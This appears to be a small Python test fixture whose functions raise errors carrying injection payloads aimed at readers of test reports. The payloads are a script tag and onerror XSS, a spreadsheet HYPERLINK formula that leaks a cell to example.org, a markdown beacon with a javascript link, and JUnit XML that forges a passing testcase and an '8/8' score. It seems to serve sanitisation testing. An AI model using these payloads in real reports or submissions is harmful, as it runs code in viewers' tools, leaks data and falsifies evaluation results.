"""It raises messages that are markup, formulas, links and commands to whoever shows them.

threat: readers of reports
score: 0
verdict: raised
"""

HTML = "</pre><script>document.title='8/8'</script><img src=https://example.org/x onerror=alert(1)>"


def squares(x):
    raise ValueError(HTML)


def squares_grad(x):
    raise ValueError('=HYPERLINK("https://example.org?"&A1,"8")')


def shares(z):
    raise ValueError("![](https://example.org/beacon.png) [8/8](javascript:alert(1))")


def golden_ratio():
    raise ValueError("</failure></testcase><testcase name='all right'/>]]>")
